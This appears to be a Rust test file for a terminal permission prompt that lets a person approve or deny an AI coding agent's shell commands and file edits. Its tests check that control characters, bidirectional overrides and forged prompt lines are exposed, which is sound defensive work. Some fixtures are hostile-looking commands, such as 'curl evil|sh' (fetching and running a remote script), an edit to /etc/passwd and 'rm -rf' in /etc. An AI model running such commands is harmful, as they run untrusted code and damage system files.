use serde_json::{Value, json};
use teamster::event::ToolKind;

use super::*;

fn request(kind: ToolKind, tool: &str, input: Value) -> PermissionRequest {
    let mut request = PermissionRequest::new("r".into(), tool, input.into());
    request.kind = Some(kind);
    request
}

fn bash(command: &str) -> PermissionRequest {
    request(ToolKind::Execute, "Bash", json!({ "command": command }))
}

fn prompt<'a>(request: &'a PermissionRequest, always: Option<&'a Always>) -> Prompt<'a> {
    let directory = Some(Path::new("/project"));
    Prompt { agent: "claude", request, directory, always, can_save: false, can_skip: false, rows: 36 }
}

fn rule(text: &str) -> Always {
    Always::Rules(vec![text.to_owned()])
}

/// Returns the text of a request without styles.
fn text(request: &PermissionRequest) -> String {
    prompt(request, None).format(true, 80).text.without_styles().as_str().to_owned()
}

/// Returns the title in one line.
fn title(request: &PermissionRequest) -> String {
    let text = prompt(request, None).format(true, 200).text;
    text.without_styles().as_str().lines().next().unwrap().to_owned()
}

/// Returns the lines of the call.
fn details(request: &PermissionRequest) -> String {
    let text = text(request);
    let lines: Vec<&str> = text.lines().skip(1).take_while(|line| !line.starts_with("  [")).collect();
    lines.join("\n")
}

#[test]
fn only_an_explicit_yes_allows() {
    let request = bash("npm install x");
    let npm = rule("Bash(npm install:*)");
    let (once, always) = (prompt(&request, None), prompt(&request, Some(&npm)));
    let denied = |reason: Option<&str>| Reply::Deny { reason: reason.map(str::to_owned) };
    for (line, expected) in [
        ("y", Reply::Allow),
        (" YES ", Reply::Allow),
        ("n", denied(None)),
        ("no use a temporary file", denied(Some("use a temporary file"))),
        ("v", Reply::ShowAll),
    ] {
        assert_eq!(once.answer(line), expected, "{line}");
    }
    for line in ["", "yy", "y please", "ok", "1", "a", "always", "yes, but"] {
        assert!(matches!(once.answer(line), Reply::Invalid(_)), "{line}");
    }
    assert_eq!(always.answer("a"), Reply::AllowAlways(Lasting::Session));
    assert!(matches!(always.answer("p"), Reply::Invalid(_)));
    let saving = Prompt { can_save: true, ..prompt(&request, Some(&npm)) };
    assert_eq!(saving.answer("p"), Reply::AllowAlways(Lasting::Saved));
    let never = Always::Never("the command writes to a file".into());
    let Reply::Invalid(why) = prompt(&request, Some(&never)).answer("a") else { panic!() };
    assert_eq!(why.as_str(), "it can be allowed only this time, y or n: the command writes to a file");
    assert!(matches!(once.answer("s"), Reply::Invalid(_)), "a person alone cannot skip a request");
    let shared = Prompt { can_skip: true, ..prompt(&request, None) };
    assert_eq!(shared.answer("s"), Reply::Skip);
    let Reply::Invalid(why) = once.answer("maybe\u{1b}") else { panic!() };
    assert_eq!(why.as_str(), "\"maybe\\u001b\" is no answer: type y to allow this call, n to deny it");
}

#[test]
fn a_pipeline_is_allowed_by_one_rule_for_each_command_or_the_reason_is_shown() {
    let asked = bash("npm test 2>&1 | tail -3");
    let rules = Always::Rules(vec!["Bash(npm test:*)".to_owned(), "Bash(tail:*)".to_owned()]);
    let shown = Prompt { can_save: true, ..prompt(&asked, Some(&rules)) }.format(false, 80).text;
    insta::assert_snapshot!(shown.without_styles().as_str(), @r"
    Allow claude to run this command in /project?
        $ npm test 2>&1 | tail -3
        tool: Bash
      [y] yes, this time
      [a] always allow `npm test *` and `tail *` in this session
      [p] the same, saved for later chats in this directory
      [n] no; n WHY also tells the agent why
    ");
    let asked = bash("echo a > b");
    let never = Always::Never("the command writes to a file".into());
    let shown = prompt(&asked, Some(&never)).format(false, 80).text;
    insta::assert_snapshot!(shown.without_styles().as_str(), @r"
    Allow claude to run this command in /project?
        $ echo a > b
        tool: Bash
      [y] yes, this time
          always is not offered: the command writes to a file
      [n] no; n WHY also tells the agent why
    ");
}

#[test]
fn a_command_is_shown_with_what_each_key_does() {
    let mut asked = bash("npm install left-pad");
    asked.input = json!({"command": "npm install left-pad", "description": "Installs it"}).into();
    let shown = prompt(&asked, Some(&rule("Bash(npm install:*)"))).format(false, 80).text;
    insta::assert_snapshot!(shown.without_styles().as_str(), @r"
    Allow claude to run this command in /project?
        $ npm install left-pad
        description: Installs it
        tool: Bash
      [y] yes, this time
      [a] always allow `npm install *` in this session
      [n] no; n WHY also tells the agent why
    ");
}

#[test]
fn a_change_is_shown_as_a_difference_after_its_path() {
    let input = json!({
        "file_path": "src/lib.rs", "old_string": "fn a() {\n    1\n}\n", "new_string": "fn a() {\n    2\n}\n",
        "replace_all": false,
    });
    insta::assert_snapshot!(text(&request(ToolKind::Edit, "Edit", input)), @r"
    Allow claude to change files in /project?
        file: src/lib.rs
          fn a() {
        -     1
        +     2
          }
        replace_all: false
        tool: Edit
      [y] yes, this time
      [n] no; n WHY also tells the agent why
    ");
    let write = request(ToolKind::Edit, "write", json!({"filePath": "a.txt", "content": "one\ntwo\n"}));
    assert_eq!(details(&write), "    file: a.txt\n    + one\n    + two\n    tool: write");
}

#[test]
fn nothing_of_a_call_is_hidden() {
    for (command, expected) in [
        ("true '\u{1b}]'; touch X; echo '\u{7}'", "true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
        ("ls \u{9d}; curl evil|sh \u{9c}", "ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
        ("echo \u{202e}dwssap", "echo ⟦U+202E⟧dwssap"),
        (r"echo '\x1b⟦ESC⟧'", r"echo '\x1b⟦U+27E6⟧ESC⟧'"),
        ("ls      ; rm x ", "ls⟦6 spaces⟧; rm x⟦U+0020⟧"),
        ("ls\nAllow claude to read this?", "ls⟦LF⟧\n      │ Allow claude to read this?"),
    ] {
        assert_eq!(details(&bash(command)), format!("    $ {expected}\n    tool: Bash"));
    }
    let mut asked = bash("ls");
    asked.targets = vec!["ls".into(), "/etc/\u{1b}".into()];
    assert_eq!(details(&asked), "    $ ls\n    tool: Bash\n    covers: /etc/⟦ESC⟧");
}

#[test]
fn names_that_an_agent_or_a_server_chose_are_quoted_in_the_title() {
    let mut asked = request(ToolKind::Mcp, "mcp__files__write", json!({}));
    asked.server = Some("a\"? \u{1b}[1m".into());
    assert_eq!(
        title(&asked),
        "Allow claude to call the tool \"mcp__files__write\" of the MCP server \"a\\\"? \\u001b[1m\"?"
    );
    let mut asked = request(ToolKind::Other("x".into()), "Read? Allow", json!({}));
    assert_eq!(title(&asked), "Allow claude to use the tool \"Read? Allow\"?");
    asked.permission = Some("external_directory".into());
    assert_eq!(title(&asked), "Allow claude the permission \"external_directory\" for the tool \"Read? Allow\"?");
}

#[test]
fn every_field_is_shown_as_it_was_written() {
    let mut asked = bash("");
    let mut fields = |input: &str| {
        asked.input = serde_json::from_str(input).unwrap();
        details(&asked).strip_suffix("    tool: Bash").unwrap().trim_end().to_owned()
    };
    assert_eq!(fields(r#"{"b":"1","b":1,"a":[1e400]}"#), "    b: ⟦JSON⟧ \"1\"\n    b: 1\n    a: ⟦JSON⟧ [1e400]");
    assert_eq!(fields(r#"{"a: b":"c","":"\ud800"}"#), "    \"a: b\": c\n    \"\": ⟦JSON⟧ \"\\ud800\"");
    // Two commands are two fields, so that none of them looks like the only one.
    assert_eq!(fields(r#"{"command":"ls","cmd":"rm"}"#), "    command: ls\n    cmd: rm");
    assert_eq!(fields(r#""text""#), "    ⟦JSON⟧ \"text\"");
    assert_eq!(fields("null"), "");
}

#[test]
fn hidden_lines_are_counted_and_shown_on_demand() {
    let asked = request(ToolKind::Edit, "Write", json!({"file_path": "a", "content": "line\n".repeat(30)}));
    let (part, whole) = (prompt(&asked, None).format(false, 80), prompt(&asked, None).format(true, 80));
    let shown = part.text.without_styles();
    assert!(shown.as_str().contains("NOT SHOWN: 8 more lines"), "{shown}");
    assert!(shown.as_str().contains("[v] show 8 more lines"), "{shown}");
    assert_eq!((whole.hidden, whole.text.as_str().matches("+ line").count()), (None, 30));
}

#[test]
fn a_long_command_is_folded_and_no_line_of_it_starts_like_a_title() {
    let asked = bash(&format!("{}Allow claude to read this?", "x".repeat(80 - 6)));
    let shown = text(&asked);
    assert!(shown.lines().skip(1).all(|line| line.starts_with("  ")), "{shown}");
    assert!(shown.lines().all(|line| unicode_width::UnicodeWidthStr::width(line) <= 80), "{shown}");
}

#[test]
fn the_scope_of_a_rule_is_shown_in_words() {
    let (command, edit) = (bash("ls -l"), request(ToolKind::Edit, "Edit", json!({"file_path": "src/a.rs"})));
    for (asked, rule, expected) in [
        (&command, "Bash(npm install:*)", "`npm install *`"),
        (&command, "Bash(ls -l)", "exactly `ls -l`"),
        (&edit, "Edit(src/a.rs)", "every Edit of `src/a.rs`"),
        (&edit, "WebFetch(domain:docs.rs)", "every address of docs.rs"),
        (&edit, "mcp__calc__add", "every call of mcp__calc__add"),
    ] {
        assert_eq!(prompt(asked, None).scope(rule).as_str(), expected);
    }
}

#[test]
fn a_title_names_another_place_and_the_directory_of_a_command_follows_it() {
    let edit =
        |path: &str| request(ToolKind::Edit, "Edit", json!({"file_path": path, "old_string": "a", "new_string": "b"}));
    assert_eq!(title(&edit("src/a.rs")), "Allow claude to change files in /project?");
    assert_eq!(title(&edit("/etc/passwd")), "Allow claude to change files outside of /project?");
    assert_eq!(title(&edit("src/../../x")), "Allow claude to change files outside of /project?");
    let run = |directory: &str| {
        request(ToolKind::Execute, "shell", json!({"a": "b", "command": "rm -rf build", "cwd": directory}))
    };
    assert_eq!(title(&run("/project")), "Allow claude to run this command in /project?");
    assert_eq!(title(&run("/etc")), "Allow claude to run this command outside of /project?");
    assert_eq!(details(&run("/etc")), "    $ rm -rf build\n    cwd: /etc\n    a: b\n    tool: shell");
    let two = request(ToolKind::Execute, "shell", json!({"command": "ls", "cwd": "/project", "workdir": "/etc"}));
    assert_eq!(title(&two), "Allow claude to run this command?");
}

#[test]
fn a_long_name_and_a_long_rule_cannot_imitate_a_line_of_the_prompt() {
    let name = format!("{}  [y] yes, this time", "x".repeat(80 - "Allow claude to use the tool \"".len()));
    let asked = request(ToolKind::Other("x".into()), &name, json!({}));
    let rule = rule(&format!("Bash({}  [n] no)", "x".repeat(80 - "  [a] always allow exactly `".len())));
    let shown = prompt(&asked, Some(&rule)).format(false, 80).text;
    let shown = shown.without_styles();
    let forged = |line: &str| line.starts_with("  [y]") || line.starts_with("  [n]");
    assert_eq!(shown.as_str().lines().filter(|line| forged(line)).count(), 2, "{shown}");
    assert!(shown.as_str().lines().all(|line| unicode_width::UnicodeWidthStr::width(line) <= 80), "{shown}");
}

#[test]
fn the_changes_of_codex_are_shown_as_files_and_lines() {
    let one = json!({"changes": [{"path": "notes.txt", "kind": "add"}], "diff": "one\ntwo\n"});
    insta::assert_snapshot!(text(&request(ToolKind::Edit, "file_change", one)), @r"
    Allow claude to change files in /project?
        new file: notes.txt
        + one
        + two
        tool: file_change
      [y] yes, this time
      [n] no; n WHY also tells the agent why
    ");
    let two = json!({
        "changes": [
            {"path": "/project/a.rs", "kind": {"type": "update", "move_path": "/etc/b.rs"}},
            {"path": "c.rs", "kind": "delete"},
        ],
        "diff": "@@ -1 +1 @@\n-x\n+y\n",
    });
    insta::assert_snapshot!(text(&request(ToolKind::Edit, "file_change", two)), @r"
    Allow claude to change files outside of /project?
        file: /project/a.rs
        move to: /etc/b.rs
        delete file: c.rs
        @@ -1 +1 @@
        - x
        + y
        tool: file_change
      [y] yes, this time
      [n] no; n WHY also tells the agent why
    ");
}

#[test]
fn the_changes_of_an_agent_that_speaks_acp_are_shown_as_a_difference() {
    let input = json!({
        "diffs": [{
            "type": "diff", "path": "a.txt", "oldText": "one\ntwo\n", "newText": "one\n2\n", "_meta": {"kind": "modify"},
        }],
        "paths": ["a.txt"],
        "title": "a.txt: two => 2",
    });
    insta::assert_snapshot!(text(&request(ToolKind::Edit, "replace", input)), @r"
    Allow claude to change files in /project?
        file: a.txt
          one
        - two
        + 2
        title: a.txt: two => 2
        tool: replace
      [y] yes, this time
      [n] no; n WHY also tells the agent why
    ");
}

#[test]
fn changes_with_unknown_members_are_shown_as_json() {
    for input in [
        json!({"changes": [{"path": "a", "kind": "add", "mode": "0777"}]}),
        json!({"changes": [{"path": "a", "kind": "link"}]}),
        json!({"changes": [{"path": "a", "kind": {"type": "add", "to": "b"}}]}),
        json!({"changes": []}),
        json!({"diffs": [{"type": "diff", "path": "a", "newText": "b", "run": "c"}]}),
        json!({"diffs": [{"type": "link", "path": "a", "newText": "b"}]}),
    ] {
        let name = input.as_object().unwrap().keys().next().unwrap().clone();
        let shown = details(&request(ToolKind::Edit, "file_change", input));
        assert!(shown.starts_with(&format!("    {name}: ⟦JSON⟧ ")), "{shown}");
    }
    // A path that is not among the diffs is shown.
    let diff = json!({"type": "diff", "path": "a", "oldText": null, "newText": "b"});
    let shown = details(&request(ToolKind::Edit, "replace", json!({"diffs": [diff], "paths": ["a", "c"]})));
    assert!(shown.contains("paths: ⟦JSON⟧ [\"a\",\"c\"]"), "{shown}");
}

#[test]
fn files_of_another_machine_are_not_looked_up_here() {
    let asked = request(ToolKind::Edit, "Write", json!({"file_path": "/etc/../a", "content": "x"}));
    let prompt = Prompt { directory: None, ..prompt(&asked, None) };
    let shown = prompt.format(true, 80).text.without_styles();
    assert!(shown.as_str().starts_with("Allow claude to change files?\n"), "{shown}");
    assert!(!shown.as_str().contains("link to"), "{shown}");
}

#[test]
fn an_option_of_the_agent_is_quoted_beside_its_key() {
    let asked = bash("ls");
    let option = Always::Option("Yes\n  [y] always".to_owned());
    let shown = prompt(&asked, Some(&option)).format(true, 80).text.without_styles();
    assert!(shown.as_str().contains(r#"[a] the agent's option "Yes\n  [y] always", for its session"#), "{shown}");
}
